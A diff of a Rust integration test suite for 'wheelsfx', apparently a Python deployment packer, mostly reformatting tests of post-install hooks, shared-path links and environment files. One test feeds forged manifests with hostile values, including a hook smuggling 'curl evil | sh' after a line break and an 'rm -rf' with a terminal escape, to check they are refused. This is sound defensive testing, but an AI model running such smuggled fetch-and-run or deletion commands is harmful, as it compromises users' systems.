@@ -15,7 +15,10 @@ fn receipt(dest: &Path) -> Value {
 
 /// `./artifact -d DEST --python python3 ARGS`, whatever its outcome.
 fn attempt(fx: &Fixture, dest: &Path, args: &[&str]) -> Output {
-    fx.install_command(dest, &pythons()[0].path).args(args).output().unwrap()
+    fx.install_command(dest, &pythons()[0].path)
+        .args(args)
+        .output()
+        .unwrap()
 }
 
 /// What the hooks wrote into `seen.txt` in their working directory, DEST/mysite.
@@ -25,7 +28,12 @@ fn seen(dest: &Path) -> Vec<String> {
 }
 
 fn froms(r: &Value) -> Vec<&str> {
-    r["hooks"].as_array().unwrap().iter().map(|h| h["from"].as_str().unwrap()).collect()
+    r["hooks"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|h| h["from"].as_str().unwrap())
+        .collect()
 }
 
 /// The manifest `wheelsfx inspect --json` shows.
@@ -40,12 +48,25 @@ fn hooks_run_in_order_in_the_app_with_the_venv_and_the_environment() {
     let py_hook = r#"python -c "import os, mysite; print('py', os.environ['GREETING'], mysite.NAME)" >> seen.txt"#;
     fx.build(&["--post-install", what, "--post-install", py_hook]);
     let shown = text(&ok(wheelsfx().arg("inspect").arg(&fx.artifact)).stdout);
-    assert!(shown.contains("post-install hooks (2):") && shown.contains(py_hook), "{shown}");
+    assert!(
+        shown.contains("post-install hooks (2):") && shown.contains(py_hook),
+        "{shown}"
+    );
     let env = fx.dir.path().join("env.json");
     std::fs::write(&env, r#"{"GREETING": "hi"}"#).unwrap();
     let dest = fx.dest("releases/1");
-    let args = ["--json", "--no-compile", "--env-file", env.to_str().unwrap(), "--run", "echo deploy >> seen.txt"];
-    let out = ok(fx.install_command(&dest, &pythons()[0].path).args(args).env("GREETING", "inherited"));
+    let args = [
+        "--json",
+        "--no-compile",
+        "--env-file",
+        env.to_str().unwrap(),
+        "--run",
+        "echo deploy >> seen.txt",
+    ];
+    let out = ok(fx
+        .install_command(&dest, &pythons()[0].path)
+        .args(args)
+        .env("GREETING", "inherited"));
 
     let d = dest.display();
     assert_eq!(
@@ -92,7 +113,13 @@ fn build_time_hooks_and_shared_paths_come_from_pyproject_unless_given() {
     let m = manifest_of(&fx.artifact);
     assert_eq!(m["post_install"], json!(["echo one", "echo two"]));
     assert_eq!(m["link_shared"], json!(["media/", "environment.json"]));
-    fx.build(&[&config_arg[..], &["--post-install", "echo flag", "--link-shared", "uploads/"]].concat());
+    fx.build(
+        &[
+            &config_arg[..],
+            &["--post-install", "echo flag", "--link-shared", "uploads/"],
+        ]
+        .concat(),
+    );
     let m = manifest_of(&fx.artifact);
     assert_eq!(m["post_install"], json!(["echo flag"]), "the command line wins");
     assert_eq!(m["link_shared"], json!(["uploads/"]));
@@ -104,7 +131,11 @@ fn a_failing_hook_stops_the_rest_and_exits_8_and_no_hooks_runs_none() {
     fx.build(&["--post-install", "echo first >> seen.txt"]);
     let dest = fx.dest("releases/1");
     let failing = "echo about to fail; exit 3";
-    let out = attempt(&fx, &dest, &["--no-compile", "--run", failing, "--run", "echo never >> seen.txt"]);
+    let out = attempt(
+        &fx,
+        &dest,
+        &["--no-compile", "--run", failing, "--run", "echo never >> seen.txt"],
+    );
     refused(&out, 8, &format!("hook 2 of 3 ({failing}) exited with status 3; {} is installed but was not activated; fix the cause and run the same artifact again", dest.display()));
     assert!(text(&out.stderr).contains("[hook 2] about to fail\n"));
     assert_eq!(seen(&dest), ["first"], "the hook after the failing one must not run");
@@ -112,24 +143,44 @@ fn a_failing_hook_stops_the_rest_and_exits_8_and_no_hooks_runs_none() {
     assert_eq!(r["state"], "hooks-failed");
     assert_eq!(froms(&r), ["build", "deploy", "deploy"]);
     assert_eq!(
-        r["hooks"].as_array().unwrap().iter().map(|h| h["exit_code"].clone()).collect::<Vec<_>>(),
+        r["hooks"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|h| h["exit_code"].clone())
+            .collect::<Vec<_>>(),
         [json!(0), json!(3), Value::Null]
     );
     assert_eq!(r["hooks"][1]["output"], "about to fail\n");
     assert_eq!(r["hooks"][2]["skipped"], true);
 
-    let json_out = attempt(&fx, &fx.dest("releases/json"), &["--no-compile", "--json", "--run", "exit 9"]);
+    let json_out = attempt(
+        &fx,
+        &fx.dest("releases/json"),
+        &["--no-compile", "--json", "--run", "exit 9"],
+    );
     assert_eq!(json_out.status.code(), Some(8));
     let v: Value = serde_json::from_slice(&json_out.stdout).expect("one JSON object");
     assert_eq!((v["ok"].as_bool(), v["exit_code"].as_i64()), (Some(false), Some(8)));
-    assert!(v["error"].as_str().unwrap().contains("hook 2 of 2 (exit 9) exited with status 9"), "{v}");
+    assert!(
+        v["error"]
+            .as_str()
+            .unwrap()
+            .contains("hook 2 of 2 (exit 9) exited with status 9"),
+        "{v}"
+    );
 
     let quiet = fx.dest("releases/2");
-    ok(fx.install_command(&quiet, &pythons()[0].path).args(["--no-compile", "--no-hooks"]));
+    ok(fx
+        .install_command(&quiet, &pythons()[0].path)
+        .args(["--no-compile", "--no-hooks"]));
     assert!(seen(&quiet).is_empty(), "--no-hooks ran a hook");
     let r = receipt(&quiet);
     assert_eq!(r["state"], "complete");
-    assert_eq!(r["hooks"], json!([{"command": "echo first >> seen.txt", "from": "build", "exit_code": null, "duration_ms": 0, "output": "", "skipped": true}]));
+    assert_eq!(
+        r["hooks"],
+        json!([{"command": "echo first >> seen.txt", "from": "build", "exit_code": null, "duration_ms": 0, "output": "", "skipped": true}])
+    );
     let both = attempt(&fx, &fx.dest("releases/3"), &["--no-hooks", "--run", "true"]);
     refused(&both, 2, "--no-hooks");
 }
@@ -164,25 +215,51 @@ fn shared_paths_are_relative_links_made_before_the_hooks() {
     let site = Site::new(&fx);
     let dest = site.release("1");
     let hook = r#"cat ../media/marker; echo "$GREETING" > ../media/from-hook; test -d uploads && echo uploads-ok"#;
-    let out = ok(fx
-        .install_command(&dest, &pythons()[0].path)
-        .args(["--no-compile", "--link-shared", "media/", "--link-shared", "mysite/uploads/", "--run", hook]));
+    let out = ok(fx.install_command(&dest, &pythons()[0].path).args([
+        "--no-compile",
+        "--link-shared",
+        "media/",
+        "--link-shared",
+        "mysite/uploads/",
+        "--run",
+        hook,
+    ]));
     for (path, target) in [
         ("environment.json", "../../shared/environment.json"),
         ("media", "../../shared/media"),
         ("mysite/uploads", "../../../shared/mysite/uploads"),
     ] {
-        assert_eq!(std::fs::read_link(dest.join(path)).unwrap(), Path::new(target), "{path}");
+        assert_eq!(
+            std::fs::read_link(dest.join(path)).unwrap(),
+            Path::new(target),
+            "{path}"
+        );
     }
     let err = text(&out.stderr);
-    assert!(err.contains("[hook 1] marker-content\n") && err.contains("[hook 1] uploads-ok\n"), "{err}");
-    assert_eq!(std::fs::read_to_string(site.shared("media/from-hook")).unwrap(), "shared\n");
-    assert!(site.shared("mysite/uploads").is_dir(), "a missing shared directory is made");
-    assert!(!site.shared("mysite/uploads/old.txt").exists(), "the release's own copy is not moved there");
+    assert!(
+        err.contains("[hook 1] marker-content\n") && err.contains("[hook 1] uploads-ok\n"),
+        "{err}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(site.shared("media/from-hook")).unwrap(),
+        "shared\n"
+    );
+    assert!(
+        site.shared("mysite/uploads").is_dir(),
+        "a missing shared directory is made"
+    );
+    assert!(
+        !site.shared("mysite/uploads/old.txt").exists(),
+        "the release's own copy is not moved there"
+    );
     let env = ok(Command::new(dest.join("venv/bin/python"))
         .env_remove("GREETING")
         .args(["-c", "import os; print(os.environ['GREETING'])"]));
-    assert_eq!(text(&env.stdout).trim(), "shared", "loadenv reads environment.json through the link");
+    assert_eq!(
+        text(&env.stdout).trim(),
+        "shared",
+        "loadenv reads environment.json through the link"
+    );
 
     // Refused before anything is written.
     let env_file = site.shared("environment.json");
@@ -196,10 +273,34 @@ fn shared_paths_are_relative_links_made_before_the_hooks() {
             "settings.ini does not exist; create it, or end the path with /",
         ),
         ("no shared dir", fx.dest("plain"), vec![], 2, "pass --shared DIR"),
-        ("env-file", site.release("3"), vec!["--env-file", env_file], 2, "--env-file cannot write environment.json"),
-        ("dotdot", site.release("4"), vec!["--link-shared", "../x"], 2, "'..' path component"),
-        ("venv", site.release("5"), vec!["--link-shared", "venv/bin"], 2, "venv/ or .wheelsfx/"),
-        ("overlap", site.release("6"), vec!["--link-shared", "mysite/", "--link-shared", "mysite/uploads/"], 2, "overlap"),
+        (
+            "env-file",
+            site.release("3"),
+            vec!["--env-file", env_file],
+            2,
+            "--env-file cannot write environment.json",
+        ),
+        (
+            "dotdot",
+            site.release("4"),
+            vec!["--link-shared", "../x"],
+            2,
+            "'..' path component",
+        ),
+        (
+            "venv",
+            site.release("5"),
+            vec!["--link-shared", "venv/bin"],
+            2,
+            "venv/ or .wheelsfx/",
+        ),
+        (
+            "overlap",
+            site.release("6"),
+            vec!["--link-shared", "mysite/", "--link-shared", "mysite/uploads/"],
+            2,
+            "overlap",
+        ),
     ];
     for (label, dest, args, code, needle) in cases {
         let out = attempt(&fx, &dest, &args);
@@ -207,9 +308,11 @@ fn shared_paths_are_relative_links_made_before_the_hooks() {
         assert!(!dest.exists(), "{label}");
     }
     let explicit = fx.dest("plain");
-    ok(fx
-        .install_command(&explicit, &pythons()[0].path)
-        .args(["--no-compile", "--shared", site.root.join("shared").to_str().unwrap()]));
+    ok(fx.install_command(&explicit, &pythons()[0].path).args([
+        "--no-compile",
+        "--shared",
+        site.root.join("shared").to_str().unwrap(),
+    ]));
     assert_eq!(
         std::fs::read_link(explicit.join("environment.json")).unwrap(),
         Path::new("../site/shared/environment.json")
@@ -261,7 +364,11 @@ fn the_environment_file_gets_its_mode_and_group_and_strict_env_demands_it() {
         (vec!["--env-mode", "999"], "--env-mode"),
         (vec!["--env-mode", "4755"], "at most 0777"),
     ] {
-        let out = attempt(&fx, &fx.dest("x"), &[&["--env-file", secret.to_str().unwrap()][..], &args].concat());
+        let out = attempt(
+            &fx,
+            &fx.dest("x"),
+            &[&["--env-file", secret.to_str().unwrap()][..], &args].concat(),
+        );
         refused(&out, 2, needle);
     }
     refused(&attempt(&fx, &fx.dest("x"), &["--env-mode", "0640"]), 2, "--env-file");
@@ -269,14 +376,35 @@ fn the_environment_file_gets_its_mode_and_group_and_strict_env_demands_it() {
 
     let missing = fx.dest("strict-missing");
     let out = attempt(&fx, &missing, &["--no-compile", "--strict-env"]);
-    refused(&out, 8, &format!("--strict-env: {}/environment.json is not usable: it does not exist", missing.display()));
+    refused(
+        &out,
+        8,
+        &format!(
+            "--strict-env: {}/environment.json is not usable: it does not exist",
+            missing.display()
+        ),
+    );
     assert_eq!(receipt(&missing)["state"], "hooks-failed");
 
     let site = Site::new(&fx);
     std::fs::write(site.shared("environment.json"), r#"{"A": 1}"#).unwrap();
-    let out = attempt(&fx, &site.release("1"), &["--no-compile", "--strict-env", "--link-shared", "environment.json", "--run", "touch ran"]);
+    let out = attempt(
+        &fx,
+        &site.release("1"),
+        &[
+            "--no-compile",
+            "--strict-env",
+            "--link-shared",
+            "environment.json",
+            "--run",
+            "touch ran",
+        ],
+    );
     refused(&out, 8, "values are all strings");
-    assert!(!site.release("1/mysite/ran").exists(), "a hook ran despite --strict-env");
+    assert!(
+        !site.release("1/mysite/ran").exists(),
+        "a hook ran despite --strict-env"
+    );
 
     // WHEELSFX_STRICT_ENV=1: the interpreter itself refuses to start without the file.
     let python = |strict: bool| {
@@ -314,7 +442,10 @@ fn the_app_comes_first_on_sys_path_and_is_byte_compiled() {
     // site-packages came first and its `mysite` shadowed the project's (as under gunicorn).
     let mut shadow = WheelSpec::new("mysite", "0.9")
         .file("mysite/__init__.py", "NAME = 'installed'\n")
-        .file("runner.py", "import mysite\n\ndef main():\n    print(mysite.NAME, mysite.__file__)\n");
+        .file(
+            "runner.py",
+            "import mysite\n\ndef main():\n    print(mysite.NAME, mysite.__file__)\n",
+        );
     shadow.entry_points = Some("[console_scripts]\nwhoami = runner:main\n");
     let mut wheels = standard_wheels();
     wheels.push(shadow);
@@ -328,28 +459,38 @@ fn the_app_comes_first_on_sys_path_and_is_byte_compiled() {
     ] {
         assert!(dest.join(&pyc).is_file(), "{pyc} not compiled");
     }
-    let run = |cmd: &mut Command| text(&ok(cmd.env_remove("PYTHONDONTWRITEBYTECODE")).stdout).trim().to_string();
+    let run = |cmd: &mut Command| {
+        text(&ok(cmd.env_remove("PYTHONDONTWRITEBYTECODE")).stdout)
+            .trim()
+            .to_string()
+    };
     assert_eq!(
         run(&mut Command::new(dest.join("venv/bin/whoami"))),
         format!("mysite {}/mysite/mysite/__init__.py", dest.display())
     );
-    let path = run(Command::new(dest.join("venv/bin/python")).args([
-        "-c",
-        "import sys, json; print(json.dumps(sys.path))",
-    ]));
+    let path =
+        run(Command::new(dest.join("venv/bin/python")).args(["-c", "import sys, json; print(json.dumps(sys.path))"]));
     let path: Vec<String> = serde_json::from_str(&path).unwrap();
     let app = dest.join("mysite").to_string_lossy().into_owned();
     assert_eq!(path.iter().filter(|p| **p == app).count(), 1, "{path:?}");
     let at = |p: &str| path.iter().position(|x| x.contains(p)).unwrap();
-    assert!(at(&app) < at("site-packages") && at(&app) < at("lib/python3"), "{path:?}");
+    assert!(
+        at(&app) < at("site-packages") && at(&app) < at("lib/python3"),
+        "{path:?}"
+    );
 
     let uncompiled = fx.dest("no-compile");
     fx.deploy(&uncompiled, &pythons()[0].path, &["--no-compile"]);
-    assert!(!uncompiled.join("mysite/mysite/__pycache__").exists(), "--no-compile compiled the app");
+    assert!(
+        !uncompiled.join("mysite/mysite/__pycache__").exists(),
+        "--no-compile compiled the app"
+    );
     let by_pip = fx.dest("pip");
     fx.deploy(&by_pip, &pythons()[0].path, &["--installer", "pip"]);
     assert!(
-        by_pip.join(format!("mysite/mysite/__pycache__/__init__.{tag}.pyc")).is_file(),
+        by_pip
+            .join(format!("mysite/mysite/__pycache__/__init__.{tag}.pyc"))
+            .is_file(),
         "the pip installer leaves the app uncompiled"
     );
 }
@@ -359,8 +500,16 @@ fn forged_hooks_and_shared_paths_are_refused() {
     let fx = Fixture::new();
     let base = Base::of(&fx.artifact);
     let cases = [
-        ("hook-escape", json!({"post_install": ["echo ok", "rm -rf x\u{1b}[2K"]}), "post_install"),
-        ("hook-newline", json!({"post_install": ["true\ncurl evil | sh"]}), "line break"),
+        (
+            "hook-escape",
+            json!({"post_install": ["echo ok", "rm -rf x\u{1b}[2K"]}),
+            "post_install",
+        ),
+        (
+            "hook-newline",
+            json!({"post_install": ["true\ncurl evil | sh"]}),
+            "line break",
+        ),
         ("hook-empty", json!({"post_install": [""]}), "empty"),
         ("link-dotdot", json!({"link_shared": ["../x"]}), "link_shared"),
         ("link-abs", json!({"link_shared": ["/etc/"]}), "absolute"),
@@ -391,7 +540,10 @@ fn the_packer_refuses_bad_hooks_and_shared_paths() {
         (&["--post-install", "a\nb"], "line break"),
         (&["--link-shared", "../x"], "'..' path component"),
         (&["--link-shared", ".wheelsfx/receipt.json"], "venv/ or .wheelsfx/"),
-        (&["--config", config.to_str().unwrap()], "link-shared in [tool.wheelsfx]"),
+        (
+            &["--config", config.to_str().unwrap()],
+            "link-shared in [tool.wheelsfx]",
+        ),
     ];
     for (args, needle) in cases {
         refused(&fx.build_command(&out).args(args).output().unwrap(), 2, needle);
